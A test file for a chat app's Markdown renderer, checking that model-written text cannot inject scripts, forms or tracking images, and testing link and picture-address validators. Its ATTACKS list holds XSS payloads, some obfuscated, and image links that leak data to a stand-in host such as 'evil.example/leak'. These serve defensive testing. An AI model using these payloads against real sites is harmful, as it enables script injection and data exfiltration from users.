import { render, screen } from "@testing-library/react";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { AllyScope } from "../../src/components/AllyScope";
import Markdown from "../../src/components/Markdown";
import { ownPicture, safeLink } from "../../src/conversation/links";

function shown(text: string): HTMLElement {
  const { container } = render(
    <AllyScope person={{ userId: "me", userEmail: "", userDomain: "unknown", userRole: "" }}>
      <div data-testid="prose">
        <Markdown text={text} />
      </div>
    </AllyScope>,
  );
  return container.querySelector<HTMLElement>("[data-testid=prose]")!;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>*{display:none}</style>",
  "<form action=https://evil.example><input name=q></form>",
  "<div style='position:fixed;inset:0'>x</div>",
  "<details open ontoggle=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](http://plain.example)",
  "[x](//evil.example)",
  "[x](/api/ally)",
  "[x](https://user:password@evil.example)",
  "![x](https://evil.example/leak?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "![a][b]\n\n[b]: https://evil.example/leak",
  "<https://evil.example/a>",
  "javascript:alert(1)",
  "[x]: javascript:alert(1)\n\n[x]",
];

/** What must never come of a model's text. */
function expectHarmless(prose: HTMLElement): void {
  expect(prose.querySelector("script, style, iframe, object, embed, form, img, picture, source, svg, video, audio, link, meta, base, details, button, textarea, select")).toBeNull();
  for (const element of prose.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^id$|^srcset$|^src$|^action$|^formaction$/);
      if (name === "href") expect(value).toMatch(/^(https:|mailto:)/i);
    }
  }
  for (const link of prose.querySelectorAll("a")) {
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link.getAttribute("target")).toBe("_blank");
  }
}

describe("Markdown of a model", () => {
  it.each(ATTACKS)("does no harm: %s", (text) => {
    expectHarmless(shown(text));
  });

  it("does no harm in whatever combination", () => {
    const piece = fc.oneof(fc.constantFrom(...ATTACKS, "\n", "\n\n", "`", "```\n", "> ", "- ", "| a | b |\n|---|---|\n| ", "**", "<!--", "-->", "&lt;"), fc.string({ maxLength: 8 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join("")), (text) => {
        const prose = shown(text);
        expectHarmless(prose);
        prose.closest(".ally")?.parentElement?.remove();
      }),
      { numRuns: 60 },
    );
  });

  it("makes the shapes of a text", () => {
    const prose = shown("# A\n\n- b\n\n| c | d |\n|---|--:|\n| 1 | 2 |\n\n~~e~~ [f](https://f.cl) <g@h.cl>");
    expect(prose.querySelector("h2")?.textContent).toBe("A");
    expect(prose.querySelector("li")?.textContent).toBe("b");
    expect(prose.querySelectorAll("td")).toHaveLength(2);
    expect(prose.querySelector("del")?.textContent).toBe("e");
    expect([...prose.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual(["https://f.cl", "mailto:g@h.cl"]);
  });

  it("makes links of pictures", () => {
    shown("![Plano](https://a.cl/plano.png)");
    expect(screen.getByRole("link").textContent).toBe("Imagen: Plano");
  });
});

describe("links", () => {
  it.each(["https://a.cl", "mailto:a@b.cl"])("may lead to %s", (address) => expect(safeLink(address)).toBe(address));
  it.each(["", "a", "/a", "//a.cl", "http://a.cl", "javascript:1", "data:text/html,1", "ftp://a", "blob:https://a", "https://u:p@a.cl", "https://u@a.cl", " javascript:1"])("may not lead to %j", (address) => expect(safeLink(address)).toBe(""));
});

describe("pictures", () => {
  const own = "https://ally.cl";
  it.each(["data:image/png;base64,iVBORw0=", "https://ally.cl/a.png"])("may be %s", (address) => expect(ownPicture(address, own)).toBe(address));
  it.each(["https://evil.cl/a.png", "http://ally.cl/a.png", "data:image/svg+xml;base64,PHN2Zz4=", "data:image/png;base64,<svg>", "data:text/html;base64,AA==", "javascript:1", "/a.png"])("may not be %s", (address) => expect(ownPicture(address, own)).toBeUndefined());
});
